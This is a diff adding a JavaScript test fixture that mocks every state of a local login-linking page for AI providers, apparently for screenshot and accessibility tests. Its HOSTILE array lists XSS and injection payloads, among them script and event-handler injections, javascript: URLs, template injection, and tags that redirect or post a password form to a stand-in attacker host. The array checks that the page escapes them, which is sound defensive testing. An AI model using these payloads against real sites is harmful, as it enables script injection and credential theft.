@@ -1,0 +1,148 @@
+// Every state that the page can show, as the JSON API would tell it: for pictures and for the accessibility rules. The stories
+// of linking run on a real Pixy; what takes hours or a fault at a provider to come about is told here.
+
+const from = (seconds) => new Date(Date.now() + seconds * 1000).toISOString().replace(/\.\d+Z$/, 'Z');
+const HOUR = 3600;
+const PAGE = 'http://127.0.0.1:8701';
+
+const CLAUDE = {
+  status: 'restricted', accepted: true, url: 'https://www.anthropic.com/legal/consumer-terms',
+  says: 'The published terms do not let other programs collect, store or relay logins of Claude.ai; API keys are the supported way.',
+};
+const OPEN = { status: 'open', accepted: true, url: null, says: 'Made for programs of others.' };
+
+const account = (name, more = {}) => ({
+  name, provider: 'claude', title: 'Claude subscription', terms: CLAUDE, flow: 'authorization_code', redirect: 'paste',
+  state: 'unlinked', usable: false, identity: null, scopes: [], expires_at: null, refreshed_at: null, next_refresh_at: null,
+  error: null, quota: null, usage: null, base_url: `http://127.0.0.1:8700/${name}`, attempt: null, ...more,
+});
+
+const LIFE = () => ({ usable: true, expires_at: from(7.2 * HOUR), refreshed_at: from(-0.8 * HOUR), next_refresh_at: from(41 * 60) });
+const linked = (name, more) => account(name, {
+  state: 'linked', ...LIFE(), identity: ['anna@example.com', 'Acme', 'Max'], scopes: ['user:profile', 'user:inference'], ...more,
+});
+
+const day = (requests, tokens = 900) => ({
+  hours: requests.map((count, hour) => ({
+    from: from((hour - 23) * HOUR), requests: count, input_tokens: count * tokens, output_tokens: count * Math.round(tokens / 9),
+  })),
+});
+const WORKDAY = () => day([0, 0, 0, 0, 0, 0, 0, 2, 9, 31, 46, 40, 12, 38, 57, 61, 44, 20, 3, 0, 6, 14, 22, 17]);
+const PLAN = () => [
+  { name: '5 hours', used: 0.42, limit: null, remaining: null, resets_at: from(2.2 * HOUR) },
+  { name: '7 days', used: 0.91, limit: null, remaining: null, resets_at: from(76 * HOUR) },
+];
+
+const attempt = (more = {}) => ({
+  attempt: 'a1', flow: 'authorization_code', host: 'claude.ai', scopes: ['user:profile', 'user:inference'], expires_at: from(583),
+  authorize_url: 'https://claude.ai/oauth/authorize?code=true&state=st4te-of-this-attempt&redirect_uri='
+    + encodeURIComponent('https://platform.claude.com/oauth/code/callback'),
+  redirect: 'paste', exchanged: false, stage: 'waiting', identity: null, granted: null, replaces: null, missing_scopes: [],
+  user_code: null, verification_url: null, verification_url_complete: null, error: null, ...more,
+});
+const loopback = (address, more) => attempt({
+  host: 'auth.openai.com', redirect: 'loopback', scopes: ['openid', 'profile', 'email', 'offline_access'],
+  authorize_url: `https://auth.openai.com/oauth/authorize?state=st4te-of-this-attempt&redirect_uri=${encodeURIComponent(address)}`, ...more,
+});
+const device = (more) => attempt({
+  flow: 'device_code', authorize_url: null, host: 'huggingface.co', redirect: 'device', scopes: ['openid', 'profile', 'inference-api'],
+  user_code: 'WDJB-MJHT', verification_url: 'https://huggingface.co/device',
+  verification_url_complete: 'https://huggingface.co/device?user_code=WDJB-MJHT', ...more,
+});
+const answered = (more) => ({ exchanged: true, stage: 'to_confirm', identity: ['anna@example.com', 'Acme', 'Max'], ...more });
+
+const codex = (more) => account('codex', { provider: 'codex', title: 'ChatGPT plan (Codex)', redirect: 'loopback', terms: { ...CLAUDE, url: null }, ...more });
+const openrouter = (more) => account('openrouter', { provider: 'openrouter', title: 'OpenRouter', terms: OPEN, redirect: 'loopback', ...more });
+const face = (more) => account('face', { provider: 'huggingface', title: 'Hugging Face', terms: OPEN, flow: 'device_code', redirect: 'none', ...more });
+const key = (more) => account('api', { provider: 'anthropic', title: 'Claude API key', terms: OPEN, flow: 'api_key', redirect: 'none', ...more });
+
+const ENDED = { title: 'The provider ended the login: invalid_grant.', detail: 'Link it again; until then agents are told so.' };
+const LATE = { title: 'The provider does not answer: connection refused.', detail: 'Nothing to do: Pixy goes on trying, and the current token serves until it ends.' };
+
+/** Whatever a provider, a configuration or a person could put into a text. */
+export const HOSTILE = [
+  '<script>window.pwned=1</script>',
+  '"><img src=x onerror="window.pwned=1">',
+  "'><svg/onload=window.pwned=1>",
+  '</template></title></textarea><script>window.pwned=1</script>',
+  'javascript:window.pwned=1',
+  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
+  '{{constructor.constructor("window.pwned=1")()}}${window.pwned=1}',
+  '<a href="javascript:window.pwned=1" autofocus onfocus="window.pwned=1" tabindex=1>x</a>',
+  '<base href="//evil.example/"><link rel=stylesheet href=//evil.example/x.css><meta http-equiv=refresh content="0;url=//evil.example">',
+  '<form action="//evil.example"><input name=password></form>',
+  '<style>*{background:url(//evil.example/x)}</style>',
+  '\u202egnp.exe\u2066 \u0000\u0007\u001b[31m',
+  'anna@example.com'.padEnd(3000, '\u0301x'),
+  `${'W'.repeat(500)}`,
+];
+
+const hostile = (text) => linked('claude', {
+  title: text.slice(0, 200), identity: [text.slice(0, 200), text.slice(0, 200)], scopes: [text], error: { title: text, detail: text }, state: 'refreshing',
+  terms: { ...CLAUDE, says: text, url: text }, quota: [{ name: text, used: 0.5, limit: null, remaining: null, resets_at: from(60) }],
+  attempt: null,
+});
+
+/** Each state by its name: what Pixy tells, and what the person has pressed. `accounts` is made when it is asked for: times pass. */
+export const STATES = {
+  'no-accounts': { accounts: () => [] },
+  'first-start': { accounts: () => [account('claude'), openrouter(), key()] },
+  terms: { accounts: () => [account('claude', { state: 'needs_terms', terms: { ...CLAUDE, accepted: false } }), openrouter()] },
+  'link-paste': { accounts: () => [account('claude', { attempt: attempt() }), openrouter()] },
+  'link-paste-wrong': { accounts: () => [account('claude', { attempt: attempt() })], type: 'https://news.example/story?id=7' },
+  'link-paste-older': { accounts: () => [account('claude', { attempt: attempt() })], type: 'c0de-from-yesterday#st4te-of-another-one' },
+  'link-comes-back': { accounts: (port) => [codex({ attempt: loopback(`http://127.0.0.1:${port}/auth/callback`) })] },
+  'link-elsewhere': { accounts: () => [codex({ attempt: loopback('http://localhost:1455/auth/callback') })] },
+  'link-device': { accounts: () => [face({ attempt: device() })] },
+  'link-exchanging': { accounts: () => [account('claude', { attempt: attempt({ stage: 'exchanging' }) })] },
+  'link-failed': {
+    accounts: () => [account('claude', { attempt: attempt({ stage: 'failed', error: {
+      type: 'urn:pixy:problem:code_refused', title: 'platform.claude.com refused the code (invalid_grant): it was used already, is too old, or belongs to another attempt.',
+      detail: 'A code works once, so start again.' } }) })],
+  },
+  'link-denied': {
+    accounts: () => [face({ attempt: device({ stage: 'failed', error: {
+      type: 'urn:pixy:problem:denied', title: 'It was not allowed at huggingface.co.', detail: 'If that was a slip, start again.' } }) })],
+  },
+  'is-this-you': { accounts: () => [account('claude', { attempt: attempt(answered({ granted: ['user:profile', 'user:inference'] })) }), openrouter()] },
+  'somebody-else': {
+    accounts: () => [linked('claude', { attempt: attempt(answered({
+      identity: ['bob@example.net', 'Bob'], granted: ['user:inference', 'org:create_api_key'], missing_scopes: ['user:profile'],
+      replaces: ['anna@example.com', 'Acme', 'Max'] })) })],
+  },
+  working: {
+    accounts: () => [
+      linked('claude', { quota: PLAN(), usage: WORKDAY() }),
+      codex({ state: 'linked', ...LIFE(), identity: ['anna@example.com', 'Plus'], usage: day([...Array(21).fill(0), 1, 0, 4], 5200),
+        quota: [{ name: '5 hours', used: null, limit: null, remaining: null, resets_at: from(-1200) }, { name: '7 days', used: 0.07, limit: null, remaining: null, resets_at: from(120 * HOUR) }] }),
+      openrouter({ state: 'linked', usable: true, identity: ['user_2Jx'], refreshed_at: from(-20 * 24 * HOUR) }),
+    ],
+  },
+  picture: { accounts: () => [linked('claude', { quota: PLAN(), usage: WORKDAY() }), openrouter()] },
+  'one-working': { accounts: () => [linked('claude', { quota: PLAN(), usage: WORKDAY() })] },
+  'use-it': { accounts: () => [linked('claude', { quota: PLAN(), usage: WORKDAY() })], press: 'Use it' },
+  'needs-you': {
+    accounts: () => [linked('codex', { title: 'ChatGPT plan (Codex)' }), linked('claude', { state: 'relink_required', usable: false, expires_at: null, next_refresh_at: null, error: ENDED, usage: WORKDAY() })],
+  },
+  renewing: {
+    accounts: () => [
+      linked('claude', { state: 'refreshing', error: LATE, next_refresh_at: from(32), expires_at: from(9 * 60) }),
+      codex({ state: 'uncertain', ...LIFE(), identity: ['anna@example.com'], error: { title: 'Pixy sent a renewal and heard no answer.', detail: LATE.detail }, next_refresh_at: from(20) }),
+      linked('work', { title: 'Login at login.example.com', terms: OPEN, state: 'refreshing' }),
+      account('lab', { title: 'Lab gateway', terms: OPEN, state: 'starting' }),
+    ],
+  },
+  keys: { accounts: () => [key({ state: 'linked', usable: true, refreshed_at: from(-3 * 24 * HOUR), usage: WORKDAY() }), key({ name: 'spare' })] },
+  'give-a-key': { accounts: () => [key()], press: 'Give the key' },
+  'ends-for-good': { accounts: () => [linked('work', { title: 'Login at login.example.com', terms: OPEN, next_refresh_at: null, scopes: [] })] },
+  unlink: { accounts: () => [linked('claude')], press: 'Unlink' },
+  hostile: { accounts: () => HOSTILE.map((text, n) => ({ ...hostile(text), name: `hostile-${n}` })) },
+};
+
+/** What `GET /api/accounts/{name}/env` answers. */
+export const ENV = [
+  { client: 'claude-code', title: 'Claude Code', variables: [], lines: ['export ANTHROPIC_BASE_URL=http://127.0.0.1:8700/claude', 'export ANTHROPIC_AUTH_TOKEN=pixy'] },
+  { client: 'anthropic', title: 'Anthropic SDKs', variables: [], lines: ['export ANTHROPIC_BASE_URL=http://127.0.0.1:8700/claude', 'export ANTHROPIC_AUTH_TOKEN=pixy'] },
+  { client: 'codex', title: 'Codex', variables: [], lines: ['# in ~/.codex/config.toml', 'model_provider = "pixy"', '', '[model_providers.pixy]', 'name = "Pixy (claude)"', 'base_url = "http://127.0.0.1:8700/claude/v1"', 'wire_api = "responses"'] },
+  { client: 'curl', title: 'curl', variables: [], lines: [`curl -N http://127.0.0.1:8700/claude/v1/messages -H 'content-type: application/json' -d '{"model":"your-model","max_tokens":100,"stream":true,"messages":[{"role":"user","content":"hi"}]}'`] },
+];
